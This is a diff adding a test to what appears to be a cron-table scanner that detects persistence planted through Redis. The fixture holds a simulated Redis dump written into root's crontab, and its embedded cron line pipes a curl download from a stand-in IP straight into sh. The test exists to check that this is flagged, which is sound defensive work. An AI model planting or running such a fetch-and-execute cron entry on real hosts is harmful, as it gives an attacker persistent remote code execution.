@@ -162,3 +162,14 @@ it('has a packaged program examined that was made a link to another', () => {
   );
   expect(told).toContainEqual({ examine: '/usr/bin/tool' });
 });
+
+it('tells that Redis wrote a table, which cron reads past the rest of its dump', () => {
+  const dump =
+    'REDIS0009\xfa\tredis-ver\x055.0.7\0\x07backup1@I\n\n\n*/2 * * * * curl http://198.51.100.7/a | sh\n\n\0\xff';
+  const table = '/var/spool/cron/root';
+  expect(cronOf({ [table]: new TextEncoder().encode(dump) })).toMatchObject([
+    { place: table, line: 4, why: expect.arrayContaining(['fetches-and-runs', 'written-by-redis']) },
+  ]);
+  const own = { [table]: '# REDIS0009\n0 3 * * * /usr/local/bin/redis-backup\n' };
+  expect(cronOf(own)).toMatchObject([{ why: expect.not.arrayContaining(['written-by-redis']) }]);
+});
